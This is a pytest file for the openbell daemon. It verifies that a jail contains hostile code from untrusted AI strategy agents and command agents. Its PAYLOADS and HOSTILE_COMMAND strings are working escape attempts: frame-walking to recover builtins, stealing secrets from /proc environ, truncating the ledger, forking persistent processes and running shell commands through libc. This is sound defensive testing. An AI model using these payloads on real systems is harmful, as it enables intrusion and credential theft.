"""Untrusted agents attack the daemon through the real CLI, and fail every time (issue 23).

`openbell replay` runs, next to a baseline and a harmless strategy-code agent whose API key (the
"other agent's key") is in the daemon's environment with a second secret no config names:

- strategy-code agents whose model (a scripted OpenAI-compatible server on 127.0.0.1) answers
  with hostile code that passes the static check: it walks a running generator's frames
  (`gi_frame.f_back`) to the bottom of the stack and takes `open`, `__import__` and the module
  globals from it, then reads `/proc/<ppid>/environ` (and raises it reversed, which no masking
  recognises), truncates the ledger found through `/proc/<ppid>/fd` or by its path, forks with
  ctypes and `setsid` a process that would outlive the run, connects to a socket on the host's
  loopback, and runs a shell command through libc;
- a command agent whose program reads `/proc/$PPID/environ` and every environment `/proc` shows,
  opens and truncates the ledger, reads the config and `/etc/openbell`, and leaves a `setsid`
  grandchild asleep.

Each attack fails, each run after it too (the model is told why and answers the same); the replay
goes on to its end, the ledger verifies, neither secret appears in any form (raw, reversed, hex,
Base64) in the replay's output, the ledger file, the traces or what the model was sent, nothing
connected to the listener, no shell ran and no process the agents started is left.
"""

from __future__ import annotations

import json
import socket
import sys
import textwrap
import uuid
from pathlib import Path
from typing import Any

import pytest

from openbell.store import queries
from openbell.store.db import make_engine
from openbell.store.ledger import Ledger
from openbell_testkit.cli import assert_ledger_verifies, clean_env, cycle_rows, openbell
from openbell_testkit.jail import left_after, need_jail
from openbell_testkit.llm import ScriptedModel, completion, serve_script
from openbell_testkit.secrets import leaks

#: Fresh `openbell` processes, never forked from a zygote:
#: the attacks read the openbell process's /proc entries.
pytestmark = pytest.mark.fresh_processes

OTHER_KEY = "sk-other-agent-7Hq2vX9pL4mN8rT1wY6z"  # the harmless agent's key: configured
UNNAMED = "daemon-only-secret-Zk3Jp8Qw5Rt2Yv7X"  # in the daemon's environment, named by no config

#: Finds the bottom frame of the stack from inside a running generator and takes the real
#: `open`, `__import__` and module globals from it (the issue's attack), then frees descriptor 0.
WALK = """
def bottom():
    box = []

    def gen():
        frame = box[0].gi_frame.f_back
        while frame.f_back is not None:
            frame = frame.f_back
        yield frame

    walker = gen()
    box.append(walker)
    return next(walker)


def tools():
    frame = bottom()
    found = frame.f_builtins
    imp = found["_" + "_import_" + "_"]
    imp("i" + "o").FileIO(0).close()  # frees descriptor 0 under the descriptor limit
    return found["op" + "en"], imp, frame.f_globals
"""
PAYLOADS = {
    "environ": WALK
    + """

def strategy(bars):
    opener, imp, scope = tools()
    parent = str(imp("o" + "s").getppid())
    text = opener("/proc/" + parent + "/environ").read()
    raise ValueError(text[::-1])
""",
    "ledger": WALK
    + """
LEDGER = "{ledger}"


def strategy(bars):
    opener, imp, scope = tools()
    system = imp("o" + "s")
    parent = str(system.getppid())
    for name in system.listdir("/proc/" + parent + "/fd"):
        target = system.readlink("/proc/" + parent + "/fd/" + name)
        if target.endswith(".db"):
            opener(target, "w").close()
    opener(LEDGER, "w").close()
    return {{}}
""",
    "fork": WALK
    + """
MARKER = "{marker}"


def strategy(bars):
    opener, imp, scope = tools()
    types = imp("ct" + "ypes")
    libc = types.CDLL(None)
    child = libc["fo" + "rk"]()
    if child == 0:
        libc.setsid()
        for descriptor in (1, 2):
            libc.close(descriptor)
        exe = imp("s" + "ys").executable.encode()
        sleep = b"import time; time.sleep(120)"
        line = (types.c_char_p * 5)(exe, b"-c", sleep, MARKER.encode(), None)
        libc.execv(exe, line)
        libc["_" + "exit"](0)
    return {{}}
""",
    "socket": WALK
    + """
PORT = {port}


def strategy(bars):
    opener, imp, scope = tools()
    wire = imp("so" + "cket").create_connection(("127.0.0.1", PORT), 3)
    wire.sendall(b"leak")
    return {{}}
""",
    "shell": WALK
    + """
TOUCHED = "{touched}"


def strategy(bars):
    opener, imp, scope = tools()
    modules = scope["s" + "ys"].modules
    libc = modules["ct" + "ypes"].CDLL(None)
    libc["sy" + "stem"](("touch " + TOUCHED).encode())
    return {{}}
""",
}
HARMLESS = """
def strategy(bars):
    weights = {}
    for symbol in bars:
        if len(weights) < 3:
            weights[symbol] = 0.1
    return weights
"""
CLAIM = {"expected_return": 0.001, "hit_rate": 0.5, "rationale": "It is what it is."}

HOSTILE_COMMAND = textwrap.dedent(
    """
    import json, os, sys
    ledger, config, marker = {ledger!r}, {config!r}, {marker!r}
    found = {{}}

    def attempt(name, action):
        try:
            found[name] = "done: " + repr(action())[::-1]  # reversed: no masking knows it
        except BaseException as exc:
            found[name] = "refused: " + type(exc).__name__

    def names(pid):
        try:
            text = open(f"/proc/{{pid}}/environ").read()
        except OSError:
            return []
        return [line.split("=")[0] for line in text.split(chr(0))]

    found["ppid"] = os.getppid()
    attempt("parent environ", lambda: open(f"/proc/{{os.getppid()}}/environ").read())
    pids = [pid for pid in os.listdir("/proc") if pid.isdigit()] if os.path.isdir("/proc") else []
    found["every environ"] = sorted({{name for pid in pids for name in names(pid)}})
    found["processes"] = sorted(int(pid) for pid in pids)
    attempt("read ledger", lambda: open(ledger, "rb").read(64))
    attempt("truncate ledger", lambda: open(ledger, "r+b").truncate(0))
    attempt("read config", lambda: open(config).read())
    attempt("etc openbell", lambda: os.listdir("/etc/openbell"))
    attempt("list cwd parent", lambda: os.listdir(os.path.dirname(config)))
    found["env"] = sorted(os.environ)
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            sleeper = [sys.executable, "-c", "import time; time.sleep(600)", marker]
            os.execv(sys.executable, sleeper)
        os._exit(0)
    print(json.dumps(found), flush=True)
    """
)


def _config(tmp_path: Path, base_url: str, *, command: bool) -> str:
    text = (
        '[store]\nurl = "sqlite:///var/openbell.db"\n\n[log]\nformat = "console"\n\n'
        '[http]\nlisten = "127.0.0.1:0"\n\n'
        '[markets.crypto]\nuniverse = "crypto10"\ncadence = "daily"\n'
        'source = "ccxt:binance"\ninitial_cash = "10000"\n\n'
        '[[agents]]\nname = "equal-weight"\nkind = "equal_weight"\nmarkets = ["crypto"]\n\n'
        '[[agents]]\nname = "harmless"\nkind = "strategy_code"\nmarkets = ["crypto"]\n'
        f'base_url = "{base_url}"\nmodel = "harmless"\napi_key_env = "OTHER_AGENT_KEY"\n'
        "lookback = 30\n"
    )
    if command:
        script = tmp_path / "hostile_command.py"
        return text + (
            '\n[[agents]]\nname = "intruder"\nkind = "command"\nmarkets = ["crypto"]\n'
            f'command = ["{sys.executable}", "{script}"]\nprompt = "stdin"\nmax_wall_s = 60\n'
        )
    for name in PAYLOADS:
        text += (
            f'\n[[agents]]\nname = "{name}"\nkind = "strategy_code"\nmarkets = ["crypto"]\n'
            f'base_url = "{base_url}"\nmodel = "{name}"\nlookback = 30\nmax_retries = 1\n'
        )
    return text


def _secrets_in(*texts: str) -> list[str]:
    hidden = [OTHER_KEY, UNNAMED]
    forms = [*hidden, *(s[::-1] for s in hidden), *(s.encode().hex() for s in hidden)]
    return leaks("\n".join(texts), forms)


def _ledger_bytes(tmp_path: Path) -> str:
    return "".join(
        path.read_bytes().decode("latin-1") for path in (tmp_path / "var").glob("openbell.db*")
    )


def _cycles_of(tmp_path: Path, agent: str) -> list[tuple[int, str]]:
    engine = make_engine(f"sqlite:///{tmp_path / 'var' / 'openbell.db'}")
    try:
        (account,) = [a for a in queries.accounts(engine, "crypto") if a.agent_name == agent]
    finally:
        engine.dispose()
    return sorted(
        (row.id or 0, row.status)
        for row in cycle_rows(tmp_path)
        if row.account_id == account.account_id
    )


def _traces(tmp_path: Path, cycle_id: int) -> list[Any]:
    engine = make_engine(f"sqlite:///{tmp_path / 'var' / 'openbell.db'}")
    try:
        return list(Ledger(engine).traces(cycle_id))
    finally:
        engine.dispose()


def test_hostile_strategy_code_fails_every_time_and_leaks_nothing(tmp_path: Path) -> None:
    need_jail("strategy")
    marker = f"openbell-jail-{uuid.uuid4().hex}"
    touched = tmp_path / "shell-ran"
    ledger = tmp_path / "var" / "openbell.db"
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen()
        listener.setblocking(False)
        filled = {
            name: payload.format(
                ledger=ledger, marker=marker, port=listener.getsockname()[1], touched=touched
            )
            for name, payload in PAYLOADS.items()
        }

        def answer(body: dict[str, Any]) -> dict[str, Any]:
            code = filled.get(body["model"], HARMLESS)
            return completion(json.dumps({"code": code, "claim": CLAIM}))

        model = ScriptedModel([answer] * 200)
        with serve_script(model) as base_url:
            (tmp_path / "openbell.toml").write_text(
                _config(tmp_path, base_url, command=False), encoding="utf-8"
            )
            env = clean_env(OTHER_AGENT_KEY=OTHER_KEY, DAEMON_ONLY_SECRET=UNNAMED)
            replayed = openbell(
                tmp_path, "replay", "--start", "2025-11-01", "--end", "2025-11-02", env=env
            )
        try:
            connected, _ = listener.accept()
            connected.close()
            accepted = True
        except BlockingIOError:
            accepted = False
    # Every hostile strategy's cycles failed: the replay says so, one line each, and exits 3.
    assert replayed.returncode == 3, replayed.stderr
    assert "4 cycles done, 10 failed" in replayed.stdout + replayed.stderr
    failing = sorted(
        line.split()[2] for line in replayed.stdout.splitlines() if line.startswith("FAILED:")
    )
    assert failing == sorted(PAYLOADS), replayed.stdout
    for name in PAYLOADS:
        cycles = _cycles_of(tmp_path, name)
        assert [status for _, status in cycles] == ["failed", "failed"], name
        errors = [
            t.content or "" for c, _ in cycles for t in _traces(tmp_path, c) if t.role == "refusal"
        ]
        assert len(errors) == 4, (name, errors)  # each answer refused (its trial run failed)
    assert [status for _, status in _cycles_of(tmp_path, "harmless")] == ["done", "done"]
    assert_ledger_verifies(tmp_path)
    assert not accepted, "a strategy connected to the host's loopback"
    assert not touched.exists(), "a strategy ran a shell command"
    assert left_after(marker) == [], "a process a strategy forked outlived the replay"
    sent = json.dumps([body for body in model.requests if body["model"] in PAYLOADS])
    # The reasons went back to the model (today the trial run's error; a static check that
    # refuses frame attributes would refuse these answers before they run)...
    assert sent.count("Refused: ") == 2 * len(PAYLOADS)  # one retry a cycle, two cycles each
    assert _secrets_in(sent) == []  # ... and no secret with them
    assert _secrets_in(replayed.stdout, replayed.stderr) == []
    assert _secrets_in(_ledger_bytes(tmp_path)) == []


def test_a_hostile_command_sees_nothing_of_the_daemon_and_leaves_nothing(tmp_path: Path) -> None:
    need_jail("command")
    marker = f"openbell-jail-{uuid.uuid4().hex}"
    ledger = tmp_path / "var" / "openbell.db"
    config = tmp_path / "openbell.toml"
    (tmp_path / "hostile_command.py").write_text(
        HOSTILE_COMMAND.format(ledger=str(ledger), config=str(config), marker=marker),
        encoding="utf-8",
    )
    model = ScriptedModel(
        [lambda body: completion(json.dumps({"code": HARMLESS, "claim": CLAIM}))] * 20
    )
    with serve_script(model) as base_url:
        config.write_text(_config(tmp_path, base_url, command=True), encoding="utf-8")
        env = clean_env(OTHER_AGENT_KEY=OTHER_KEY, DAEMON_ONLY_SECRET=UNNAMED)
        replayed = openbell(
            tmp_path, "replay", "--start", "2025-11-01", "--end", "2025-11-02", env=env
        )
    assert replayed.returncode == 0, replayed.stderr
    assert "6 cycles done, 0 failed" in replayed.stdout + replayed.stderr
    assert_ledger_verifies(tmp_path)
    cycles = _cycles_of(tmp_path, "intruder")
    assert [status for _, status in cycles] == ["done", "done"]
    for cycle_id, _ in cycles:
        traces = _traces(tmp_path, cycle_id)
        (shown,) = [t.content or "" for t in traces if t.role == "stdout"]
        found = json.loads(shown)
        # Its parent is bwrap's init in its own PID namespace, started with an empty environment.
        assert found["ppid"] == 1
        assert found["parent environ"] in ("done: ''", "refused: FileNotFoundError")
        for attempt in (
            "read ledger",
            "truncate ledger",
            "read config",
            "etc openbell",
        ):
            assert found[attempt].startswith("refused"), (attempt, found[attempt])
        # The daemon's directory holds only what the jail binds in it: the program's script.
        assert found["list cwd parent"] == "done: " + repr(["hostile_command.py"])[::-1]
        # Its own PID namespace: bwrap's init (1) and the command (2), nothing of the host's
        # (and no /proc at all where the kernel refuses a fresh one, as under the systemd unit).
        assert found["processes"] in ([1, 2], [])
        for seen in (found["every environ"], found["env"]):  # its own, and its init's (empty)
            assert "OPENBELL_MCP_TOKEN" in seen or seen == found["every environ"] == []
            assert "OTHER_AGENT_KEY" not in seen
            assert "DAEMON_ONLY_SECRET" not in seen
        assert _secrets_in(*(t.content or "" for t in traces)) == []
    assert left_after(marker) == [], "a process the command started outlived the replay"
    assert _secrets_in(replayed.stdout, replayed.stderr) == []
    assert _secrets_in(_ledger_bytes(tmp_path)) == []
